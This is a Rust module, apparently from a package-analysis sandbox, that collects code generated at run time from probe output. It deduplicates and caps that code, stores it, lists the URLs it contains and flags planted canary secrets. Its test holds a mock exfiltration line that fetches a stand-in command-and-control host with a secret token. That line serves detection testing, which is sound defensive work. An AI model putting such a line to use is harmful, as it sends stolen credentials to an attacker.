//! What probes in the harness's own processes tell of code that is made while the package runs. They write to the
//! harness's descriptor, a line each: `code LANGUAGE BASE64`. The sample can write such lines too, or keep them from
//! being written, so that they are kept and shown as claims and judge nothing by themselves.

use std::collections::HashSet;

use apa_model::report::RuntimeCode;
use apa_model::{BlobSink as _, Hostile, Incomplete, IncompleteCode, Known, Phase};
use apa_netsim::decode::Matcher;
use apa_store::DirBlobs;
use base64::Engine as _;

/// Most texts kept of one run.
const MOST: usize = 300;
/// Most bytes of all of them.
const BYTES: usize = 8 << 20;
/// Bytes of a text that are shown.
const EXCERPT: usize = 300;
/// Most addresses listed of one text.
const URLS: usize = 10;
/// Longest address, bytes.
const URL: usize = 200;

const LANGUAGES: [&str; 3] = ["javascript", "python", "python-bytecode"];

/// A text as a probe gave it.
pub(crate) struct Told {
    phase: Phase,
    entry: Hostile,
    language: &'static str,
    text: Vec<u8>,
}

/// The texts of one run, each once.
#[derive(Default)]
pub(crate) struct Code {
    told: Vec<Told>,
    seen: HashSet<Vec<u8>>,
    bytes: usize,
    cut: bool,
}

impl Code {
    /// Takes a line of a harness; false when it is none of a probe's.
    pub(crate) fn take(&mut self, phase: Phase, entry: &Hostile, line: &Hostile) -> bool {
        let Some(rest) = line.as_bytes().strip_prefix(b"code ") else {
            return false;
        };
        let mut words = rest.splitn(2, |byte| *byte == b' ');
        let (Some(language), Some(text)) = (words.next(), words.next()) else {
            return true;
        };
        let language = LANGUAGES.iter().find(|known| known.as_bytes() == language);
        let text = base64::engine::general_purpose::STANDARD.decode(text.trim_ascii());
        let (Some(language), Ok(text)) = (language, text) else {
            return true;
        };
        if self.told.len() >= MOST || self.bytes + text.len() > BYTES {
            self.cut = true;
        } else if self.seen.insert(text.clone()) {
            self.bytes += text.len();
            self.told.push(Told {
                phase,
                entry: entry.shortened(200),
                language,
                text,
            });
        }
        true
    }

    /// Whether there was more than is kept.
    pub(crate) fn incomplete(&self) -> Option<Incomplete> {
        self.cut.then(|| Incomplete {
            code: IncompleteCode::OutputLimit,
            phase: None,
            detail: "more code was made while the package ran than is kept".into(),
        })
    }

    /// Keeps the texts and says what is in them.
    pub(crate) fn records(
        self,
        artifact: &str,
        blobs: &DirBlobs,
        matcher: &Matcher,
    ) -> Vec<RuntimeCode> {
        let records = self.told.into_iter().filter_map(|told| {
            // Without its text a claim says nothing.
            let (sha256, size) = blobs.put(&mut told.text.as_slice()).ok()?;
            let mut canaries: Vec<String> = matcher
                .scan(&told.text, "code")
                .into_iter()
                .map(|hit| hit.canary)
                .collect();
            canaries.sort();
            canaries.dedup();
            Some(RuntimeCode {
                artifact: artifact.to_owned(),
                phase: told.phase,
                entry: told.entry,
                language: told.language.to_owned(),
                sha256,
                size,
                urls: urls(&told.text),
                excerpt: Hostile::new(told.text).shortened(EXCERPT),
                canaries,
                known: Known::Claimed,
            })
        });
        records.collect()
    }
}

/// The addresses in a text, each once.
fn urls(text: &[u8]) -> Vec<Hostile> {
    let mut found: Vec<Hostile> = Vec::new();
    let mut rest = text;
    while let Some(at) = position(rest, b"://") {
        let scheme = rest[..at]
            .rsplit(|byte| !byte.is_ascii_alphabetic())
            .next()
            .unwrap_or_default();
        let start = at - scheme.len();
        let end = rest[at..].iter().position(|byte| {
            byte.is_ascii_whitespace() || !byte.is_ascii_graphic() || b"\"'`<>\\)]}".contains(byte)
        });
        let end = end.map_or(rest.len(), |end| at + end);
        let url = Hostile::from(&rest[start..end]).shortened(URL);
        if !scheme.is_empty() && end > at + 3 && !found.contains(&url) {
            found.push(url);
            if found.len() == URLS {
                break;
            }
        }
        rest = &rest[(at + 3).max(end)..];
    }
    found
}

fn position(text: &[u8], wanted: &[u8]) -> Option<usize> {
    text.windows(wanted.len())
        .position(|window| window == wanted)
}

#[cfg(test)]
mod tests {
    use apa_model::{Canary, CanaryKind};

    use super::*;

    fn line(language: &str, text: &str) -> Hostile {
        let text = base64::engine::general_purpose::STANDARD.encode(text);
        format!("code {language} {text}").into()
    }

    #[test]
    fn texts_are_kept_once_with_what_is_in_them() {
        let folder = tempfile::tempdir().unwrap();
        let blobs = DirBlobs::open(folder.path()).unwrap();
        let matcher = Matcher::new(&[Canary {
            id: "token".into(),
            kind: CanaryKind::EnvironmentToken,
            planted_at: "env:TOKEN".into(),
            secrets: vec!["s3cr3tq9w8e7r6t5z4".into()],
        }]);
        let mut code = Code::default();
        let entry = Hostile::from("require x");
        let text = "fetch('http://c2.example/a?b=1', s3cr3tq9w8e7r6t5z4); '://'; x(\"https://c2.example\")";
        for _ in 0..2 {
            assert!(code.take(Phase::Import, &entry, &line("javascript", text)));
        }
        assert!(!code.take(Phase::Import, &entry, &"done 1 token".into()));
        for odd in [
            "code",
            "code javascript",
            "code cobol eA==",
            "code python %%%",
        ] {
            code.take(Phase::Import, &entry, &odd.into());
        }
        assert_eq!(code.incomplete(), None);
        let records = code.records("artifact", &blobs, &matcher);
        let [one] = &records[..] else {
            panic!("{records:?}")
        };
        assert_eq!(
            one.urls,
            [
                "http://c2.example/a?b=1".into(),
                Hostile::from("https://c2.example")
            ]
        );
        assert_eq!(
            (one.canaries.as_slice(), one.known),
            (&["token".to_owned()][..], Known::Claimed)
        );
        assert!(blobs.path(&one.sha256).is_some());
    }

    #[test]
    fn a_flood_of_claims_is_cut_and_said_so() {
        let mut code = Code::default();
        for n in 0..=MOST {
            code.take(
                Phase::Import,
                &Hostile::default(),
                &line("python", &n.to_string()),
            );
        }
        assert_eq!(code.told.len(), MOST);
        assert!(code.incomplete().is_some());
    }
}
